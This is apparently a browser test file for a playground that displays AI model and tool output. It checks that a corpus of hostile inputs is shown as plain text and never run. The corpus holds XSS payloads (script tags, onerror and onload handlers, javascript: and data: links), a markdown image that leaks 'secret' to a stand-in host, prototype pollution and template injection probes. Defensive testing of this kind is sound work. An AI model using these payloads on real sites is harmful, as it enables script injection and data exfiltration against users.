"""Texts that would be code elsewhere: in every field and every pane they are text."""

import json
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Page, expect

from loopspan.testing import Answer, message
from tests.playground.browser.pages import Desk, each_tab, look_at, run
from tests.playground.served import served

pytestmark = pytest.mark.browser

CORPUS = [
    '<img src=x onerror="window.hacked = 1">',
    "<script>window.hacked = 1</script>",
    "</textarea><script>window.hacked = 1</script>",
    '<svg onload="window.hacked = 1"></svg>',
    '<iframe srcdoc="<script>parent.hacked = 1</script>"></iframe>',
    "[go](javascript:window.hacked=1)",
    "[go](data:text/html,<script>parent.hacked=1</script>)",
    "![picture](https://evil.example/?q=secret)",
    '"><style>body { display: none }</style>',
    "{{7*7}}",
    "\u202e\u0000\x1b[2J",
]
ALL = "\n\n".join(CORPUS)


def look_everywhere(page: Page) -> None:
    """Open every tab of every step, and every view of every body."""
    for n in range(1, page.locator(".step").count() + 1):
        look_at(page, n)
        for _ in each_tab(page):
            pass
        page.get_by_role("tab").first.click()
        for name in ("Markdown", "Raw", "Text"):
            for button in page.locator(".body-tools").get_by_role("button", name=name).all():
                button.click()


def check(page: Page) -> None:
    assert page.evaluate("window.hacked") is None
    assert page.locator("#app img, #app iframe, #app script, #pane style").count() == 0
    assert page.locator("a[href^='javascript:'], a[href^='data:']").count() == 0
    assert page.locator("body").is_visible()


def test_nothing_that_a_model_or_tool_writes_is_run(open_desk: Desk, tmp_path: Path) -> None:
    """XSS corpus: prompt, system, answer, thinking, arguments, call ids, tool names, errors."""
    hostile: dict[str, Any] = {"a": 1, "b": ALL, "__proto__": {"polluted": True}}
    answers = [
        message(ALL, tool_calls=[("add", hostile, CORPUS[0]), (CORPUS[1], {}, "c2")]),
        message(ALL, reasoning_content=ALL, finish_reason=CORPUS[0]),
    ]
    page, _ = open_desk.open(served(*answers, system_prompt=ALL, model=f"openai:{CORPUS[0]}"))
    run(page, ALL)
    look_everywhere(page)
    check(page)
    assert page.evaluate("({}).polluted") is None
    page.locator("#step-6" if page.locator("#step-6").count() else "#step-5").click()
    expect(page.locator("#pane")).to_contain_text("{{7*7}}")
    expect(page.locator("#pane")).to_contain_text("⟨U+202E⟩")
    page.get_by_label("Search in this run").fill("onerror")
    page.locator("#hits .hit").first.wait_for()
    check(page)
    page.get_by_role("button", name="Export").click()
    for form in ("html", "otlp-json"):
        with page.expect_download() as download:
            page.locator(f"[data-export={form}]").click()
        download.value.save_as(tmp_path / form)
    page.keyboard.press("Escape")
    assert "<script" not in (tmp_path / "html").read_text()
    assert "<img" not in (tmp_path / "html").read_text()
    page.locator("#open-file").set_input_files(tmp_path / "otlp-json")
    expect(page.locator("#badges")).to_contain_text("from a file")
    page.get_by_role("tab").last.click()
    check(page)


def test_long_word_and_odd_numbers_are_shown(open_desk: Desk) -> None:
    """A megabyte without a space; numbers by their source text (PG-02); lone surrogates."""
    odd = json.dumps({"a": 12345678901234567890, "b": "\ud800"})
    answers: list[Answer] = [message(tool_calls=[("add", odd)]), "x" * 1_000_000]
    page, _ = open_desk.open(served(*answers))
    run(page)
    page.locator("#step-3").click()
    page.get_by_role("tab", name="Arguments").click()
    expect(page.locator("#pane")).to_contain_text("12345678901234567890")
    page.locator("#step-5").click()
    more = page.locator("#pane").get_by_role("button", name="Show more")
    expect(more).to_contain_text("hidden")
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")


def test_every_violation_of_the_policy_is_noticed(open_desk: Desk) -> None:
    """Must-have 25, 7: the policy holds in the browser, and the fixture sees what breaks it."""
    open_desk.expected = ("",)
    page, _ = open_desk.open(served("Hi"))
    tried = """() => {
      const tried = {
        innerHTML: () => { document.createElement("p").innerHTML = "<b>x</b>"; },
        srcdoc: () => { document.createElement("iframe").srcdoc = "x"; },
        fragment: () => document.createRange().createContextualFragment("<b>x</b>"),
        source: () => { document.createElement("script").src = "static/main.js"; },
        worker: () => new Worker("static/main.js"),
      };
      return Object.keys(tried).filter((name) => {
        try { tried[name](); return true; } catch { return false; }
      });
    }"""
    assert page.evaluate(tried) == []
    assert page.evaluate("window.violations.length") > 0
    page.close()
